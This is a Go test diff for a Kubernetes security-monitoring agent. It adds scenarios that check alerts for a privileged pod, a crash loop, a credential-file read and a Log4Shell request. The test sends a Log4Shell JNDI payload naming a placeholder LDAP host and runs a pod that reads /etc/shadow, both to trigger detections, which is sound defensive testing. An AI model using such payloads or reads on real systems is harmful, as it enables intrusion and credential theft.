@@ -4,12 +4,15 @@ import (
 	"bufio"
 	"encoding/json"
 	"net"
+	"net/http"
 	"os"
 	"os/exec"
 	"strconv"
 	"strings"
 	"testing"
 	"time"
+
+	corev1 "k8s.io/api/core/v1"
 
 	"github.com/otelcol-k8ssec/otelcol-k8ssec/internal/testenv"
 )
@@ -24,12 +27,77 @@ const alertTimeout = 2 * time.Minute
 // as the alerts the rules promise, naming the pod.
 func TestDeployedOnANode(t *testing.T) {
 	d := deploy(t)
+	if *hold {
+		d.holdForAPerson(t)
+		return
+	}
 	t.Run("agent has the DaemonSet capabilities only", d.agentCapabilities)
 	if t.Failed() {
 		return
 	}
 	t.Run("exec then shell then connect out", d.execShellConnect)
 	t.Run("enforcement kills a named binary in a workload", d.enforcement)
+	t.Run("privileged pod crash loop and a credential read", d.clusterEvents)
+	t.Run("ingress controller logs tailed from the node", d.ingressLogs)
+}
+
+// Scenario 3: a pod named as an ingress-nginx controller writes ingress-nginx's log
+// format to its stdout; the agent tails it from /var/log/pods (through the kubelet's
+// /var/log/containers links) and a Log4Shell request against it raises the ingress
+// alert, naming the controller pod.
+func (d *deployment) ingressLogs(t *testing.T) {
+	const ns, pod = "ingress-nginx", "ingress-nginx-controller-0"
+	p := d.runPod(t, ns, pod, map[string]string{"app.kubernetes.io/name": "ingress-nginx"}, "/bin/ingresslog")
+	url := "http://" + net.JoinHostPort(p.Status.PodIP, "8080") + "/search?q=$%7Bjndi:ldap://203.0.113.9:1389/a%7D"
+	deadline := time.Now().Add(time.Minute)
+	for {
+		resp, err := http.Get(url)
+		if err == nil {
+			resp.Body.Close()
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the controller pod does not answer: %v", err)
+		}
+		time.Sleep(500 * time.Millisecond)
+	}
+	a := d.sink.wait(t, "Log4Shell JNDI lookup attempt", alertTimeout, func(a alert) bool {
+		return a.get("k8s.pod.name") == pod
+	})
+	t.Logf("ingress alert: %s", a)
+}
+
+// Scenario 2: a privileged pod's creation (audit), a crash-looping pod (Kubernetes
+// Events, a threshold on the rules tier) and a workload reading /etc/shadow (kernel,
+// with the pod's identity), all at once.
+func (d *deployment) clusterEvents(t *testing.T) {
+	const ns = "shop"
+	d.createPod(t, ns, "priv", nil, func(p *corev1.Pod) {
+		p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr(true)}
+	}, "/bin/sleep", "3600")
+	d.createPod(t, ns, "crashy", nil, nil, "/bin/sh", "-c", "exit 1")
+	d.createPod(t, ns, "reader", map[string]string{"app": "reader"}, nil,
+		"/bin/sh", "-c", "sleep 2; cat /etc/shadow >/dev/null; exec sleep 3600")
+
+	priv := d.sink.wait(t, "Privileged pod created", alertTimeout, func(a alert) bool {
+		return a.get("k8s.namespace.name") == ns && a.get("k8s.audit.object.name") == "priv"
+	})
+	read := d.sink.wait(t, "Sensitive file read", alertTimeout, func(a alert) bool {
+		return inPod(ns, "reader")(a) && a.get("file.path") == "/etc/shadow"
+	})
+	if got := read.get("k8s.pod.label.app"); got != "reader" {
+		t.Errorf("%s: k8s.pod.label.app = %q, want reader\n%s", read.Rule, got, read)
+	}
+	if got := read.get("k8s.container.name"); got != "app" {
+		t.Errorf("%s: k8s.container.name = %q, want app\n%s", read.Rule, got, read)
+	}
+	// Five back-offs: the kubelet's back-off doubles from 10 s, so a few minutes.
+	crash := d.sink.wait(t, "Crash-loop burst in one pod", 6*time.Minute, func(a alert) bool {
+		return a.get("k8s.object.namespace") == ns && a.get("k8s.object.name") == "crashy"
+	})
+	t.Logf("privileged pod alert: %s", priv)
+	t.Logf("credential read alert: %s", read)
+	t.Logf("crash-loop alert: %s", crash)
 }
 
 // Scenario 4: the agent's in-kernel enforcement, turned on as a user would (the
